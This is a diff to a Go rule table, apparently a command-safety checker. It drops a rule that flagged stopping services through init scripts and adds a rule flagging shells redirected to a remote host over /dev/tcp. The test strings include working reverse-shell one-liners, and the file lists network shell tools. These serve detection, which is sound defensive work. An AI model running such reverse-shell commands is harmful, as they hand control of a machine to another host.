@@ -76,13 +76,6 @@ var watch = []Rule{
 		Misses: []string{"update-alternatives --display x", "chkconfig --list", "update-alternatives --list x"},
 	},
 	{
-		ID: "service.init-script", Class: Destructive, Effect: grammar.Runs, Value: "/etc/init.d/* /etc/rc.d/*", Operand: "stop",
-		Reason: "stops a service that others use",
-		Hint:   "ask for its status first",
-		Hits:   []string{"/etc/init.d/ssh stop", "sudo /etc/init.d/nginx stop"},
-		Misses: []string{"/etc/init.d/nginx status", "/etc/init.d/nginx reload"},
-	},
-	{
 		ID: "service.supervised", Class: Destructive, Program: "supervisorctl pm2 sv svc monit s6-svc initctl", Operand: "stop delete kill shutdown down remove exit force-stop -d", None: "-h --help",
 		Reason: "stops services that others use",
 		Hint:   "ask for their status first",
@@ -137,6 +130,13 @@ var watch = []Rule{
 		Hint:   "run the command, and send what it answers",
 		Hits:   []string{"sh -i 5<> /dev/tcp/h/4444 0<&5 1>&5 2>&5"},
 		Misses: []string{"bash -c 'exec 3<>/dev/tcp/h/80'", "bash -i"},
+	},
+	{
+		ID: "net.shell-output", Class: Exposure, Program: "sh bash dash ash ksh mksh zsh fish", None: "-i", Effect: grammar.Connects,
+		Reason: "ties a shell to another host",
+		Hint:   "run the command, and send what it answers",
+		Hits:   []string{"ksh >/dev/tcp/h/4444 2>&1 <&1"},
+		Misses: []string{"bash -c 'exec 3<>/dev/tcp/h/80'", "timeout 1 bash -c '</dev/tcp/h/80'", "bash x.sh"},
 	},
 	{
 		ID: "net.served-shell", Class: RemoteCode, Program: "telnetd ttyd gotty wetty shellinaboxd tmate sshx inetd dropbear sshd in.telnetd websocat pwncat", None: "-t -T --help -h -V --version",
